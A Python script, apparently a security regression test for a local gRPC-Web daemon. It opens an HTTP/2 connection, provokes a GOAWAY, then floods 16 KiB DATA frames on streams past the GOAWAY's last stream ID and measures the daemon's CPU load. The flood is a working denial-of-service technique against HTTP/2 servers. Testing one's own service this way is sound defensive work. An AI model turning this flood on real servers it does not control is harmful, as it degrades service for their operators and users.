#!/usr/bin/env python3
"""goaway27.py DIR SECS [WHO] [SESSION] (twenty-seventh pass): after a93addc a connection closed by GOAWAY is
read on until its streams end. One HTTP/2 connection (TLS) from a penalized loopback peer (run it within 30 s
of a flood): WHO's (default bob) gRPC-Web JSON WatchExposure of SESSION (made beforehand with CreateSession)
keeps a stream open; GET /favicon.ico with no token is refused and the connection closed by GOAWAY (last
stream 3); then for SECS seconds DATA frames of 16 KiB are sent on streams above the GOAWAY's last stream
(net/http discards them but returns their connection-level flow control: no request, no body, nothing
charged). Prints the bytes sent (each 5 s and in all), the daemon's CPU (DIR/env's PID) against this client's, and how the
connection ended. A thread reads (and discards) what the daemon writes."""
import os, resource, socket, ssl, sys, threading, time, json
from hpack import Encoder
from hyperframe.frame import Frame, SettingsFrame, HeadersFrame, DataFrame, GoAwayFrame

d, secs = sys.argv[1], float(sys.argv[2])
who = sys.argv[3] if len(sys.argv) > 3 else 'bob'; sess = sys.argv[4] if len(sys.argv) > 4 else 'w27'
env = dict(l.strip().split('=', 1) for l in open(d + '/env') if '=' in l)
tok = [l.split()[2] for l in open(d + '/tokens') if l.split()[0] == who][0]
h, p = env['HTTP'].split(':'); pid = env['PID']
def dcpu():
    f = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf('SC_CLK_TCK')
def ccpu():
    r = resource.getrusage(resource.RUSAGE_SELF); return r.ru_utime + r.ru_stime
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(['h2'])
s = ctx.wrap_socket(socket.create_connection((h, int(p))), server_hostname=h)
enc = Encoder(); t0 = time.time(); ev = []; goaway = []; end = []
def hd(sid, method, path, extra, endst):
    f = HeadersFrame(sid); f.data = enc.encode([(':method', method), (':scheme', 'https'), (':authority', env['HTTP']), (':path', path)] + extra)
    f.flags.add('END_HEADERS')
    if endst: f.flags.add('END_STREAM')
    return f.serialize()
def reader():
    buf = b''
    while True:
        try: b = s.recv(1 << 16)
        except Exception as e: end.append(f"{time.time()-t0:.2f} recv {e!r}"); return
        if not b: end.append(f"{time.time()-t0:.2f} EOF"); return
        buf += b
        while len(buf) >= 9:
            f, ln = Frame.parse_frame_header(buf[:9])
            if len(buf) < 9 + ln: break
            f.parse_body(memoryview(buf[9:9 + ln])); buf = buf[9 + ln:]
            if isinstance(f, GoAwayFrame): goaway.append(f"{time.time()-t0:.2f} GOAWAY last {f.last_stream_id} code {f.error_code}")
            elif type(f).__name__ not in ('WindowUpdateFrame', 'SettingsFrame', 'PingFrame') and len(ev) < 12:
                ev.append(f"{time.time()-t0:.2f} {type(f).__name__[:-5]} s{f.stream_id} {sorted(f.flags)} len {f.body_len}")
m = json.dumps({"sessionId": sess}).encode(); f = DataFrame(1, data=b'\0' + len(m).to_bytes(4, 'big') + m); f.flags.add('END_STREAM')
s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + SettingsFrame(0).serialize() +
          hd(1, 'POST', '/classifier.v1.ClassifierService/WatchExposure', [('authorization', 'Bearer ' + tok), ('content-type', 'application/grpc-web+json')], False) + f.serialize())
threading.Thread(target=reader, daemon=True).start()
time.sleep(0.5); s.sendall(hd(3, 'GET', '/favicon.ico', [], True)); time.sleep(0.5)
print("\n".join(goaway + ev) or "no GOAWAY, no frames")
chunk = b''.join(DataFrame(sid, data=b'x' * 16384).serialize() for sid in range(1001, 1001 + 2 * 64, 2))
c0, d0, t1, sent = ccpu(), dcpu(), time.time(), 0
try:
    tl, sl, cl, dl = t1, 0, c0, d0
    while time.time() - t1 < secs and not end:
        s.sendall(chunk); sent += len(chunk)
        if time.time() - tl >= 5:
            print(f"  +{time.time()-t1:.0f} s: {(sent-sl)/2**20/(time.time()-tl):.0f} MiB/s, daemon {dcpu()-dl:.2f} s client {ccpu()-cl:.2f} s CPU", flush=True)
            tl, sl, cl, dl = time.time(), sent, ccpu(), dcpu()
except Exception as e:
    end.append(f"{time.time()-t0:.2f} send {e!r}")
el = time.time() - t1; dc, cc = dcpu() - d0, ccpu() - c0
print(f"sent {sent/2**20:.0f} MiB in {el:.1f} s after the GOAWAY ({sent/2**20/el:.0f} MiB/s); daemon CPU {dc:.2f} s, client CPU {cc:.2f} s ({dc/max(cc,1e-9):.2f}x); end: {end or 'still open'}")
